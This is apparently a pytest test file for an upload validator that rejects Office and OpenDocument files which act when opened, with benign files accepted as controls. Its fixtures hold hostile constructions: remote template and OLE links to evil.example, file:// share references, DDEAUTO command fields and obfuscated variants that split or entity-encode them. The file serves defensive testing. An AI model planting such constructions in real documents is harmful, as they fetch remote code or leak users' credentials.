"""Office files that act when they are opened, without a macro in them: none is taken."""

import zipfile
from io import BytesIO

import pytest

from cardumen.files.contents import examine
from cardumen.kernel.errors import Invalid

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def link(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{SCHEMA}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def word(**parts: str) -> BytesIO:
    return packed({"[Content_Types].xml": f"<Types>{WORD}</Types>", **parts})


def packed(parts: dict[str, str]) -> BytesIO:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return file


def open_document(content: str) -> BytesIO:
    kind = "application/vnd.oasis.opendocument.text"
    return packed({"mimetype": kind, "content.xml": content})


ATTACKS = {
    "template": word(
        **{"word/_rels/settings.xml.rels": link("attachedTemplate", "https://evil.example/a.dotm")}
    ),
    "template written otherwise": word(
        **{
            "word/_rels/settings.xml.rels": link(
                "&#97;ttachedTemplate", "https://evil.example/a", "&#69;xternal"
            )
        }
    ),
    "object from elsewhere": word(
        **{"word/_rels/document.xml.rels": link("oleObject", "https://evil.example/a.html!x")}
    ),
    "frame": word(**{"word/_rels/webSettings.xml.rels": link("frame", "file://evil/share")}),
    "picture of a share": word(
        **{"word/_rels/document.xml.rels": link("image", "file://///evil.example/a.png")}
    ),
    "object inside": word(**{"word/embeddings/oleObject1.bin": "x"}),
    "command": word(**{"word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"}),
    "command in pieces": word(
        **{"word/document.xml": "<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"}
    ),
    "command in a simple field": word(
        **{"word/header1.xml": '<w:fldSimple w:instr="&#68;DE cmd"/>'}
    ),
    "command of a table": word(**{"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
    "script": open_document('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
    "command of the other family": open_document("<text:dde-connection/>"),
    "object of the other family": open_document("<draw:object-ole/>"),
    "entity": word(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>'}),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_file_that_acts_is_refused_with_what_to_do(name: str):
    with pytest.raises(Invalid, match="PDF"):
        examine(ATTACKS[name], 1000)


@pytest.mark.parametrize(
    "file",
    [
        word(**{"word/_rels/document.xml.rels": link("hyperlink", "https://mineduc.cl")}),
        word(**{"word/_rels/document.xml.rels": link("image", "https://mineduc.cl/a.png")}),
        word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": "a chart", "word/document.xml": ""}),
        word(**{"word/document.xml": "<w:instrText> PAGE </w:instrText><w:t>DDE is told</w:t>"}),
        open_document("<text:p>Un objeto de aprendizaje</text:p>"),
    ],
)
def test_an_honest_file_is_taken(file: BytesIO):
    assert examine(file, 1000).extension in {".docx", ".odt"}
